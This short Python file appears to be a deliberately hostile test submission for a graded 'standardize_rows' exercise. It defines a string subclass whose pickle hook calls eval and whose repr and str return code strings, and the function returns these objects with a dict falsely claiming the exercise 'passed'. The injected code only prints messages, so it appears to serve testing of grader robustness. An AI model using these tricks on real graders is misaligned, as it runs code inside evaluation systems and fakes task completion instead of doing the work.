# assignment: row_standardization
# exercise: standardize_rows
# kind: hostile
# why: an object whose pickle, repr and JSON forms are programs
# %% standardize_rows
class Payload(str):
    def __new__(cls):
        return super().__new__(cls, "__import__('sys').modules['builtins']")

    def __reduce__(self):
        return (eval, ("__import__('builtins').print('unpickled in the grader')",))

    def __repr__(self):
        return "__import__('builtins').print('evaluated in the grader') or True"

    __str__ = __repr__


def standardize_rows(X, eps=1e-8):
    return [Payload(), {"__jaxercise__": "passed", "dtype": Payload(), "shape": Payload(), "data": Payload()}]
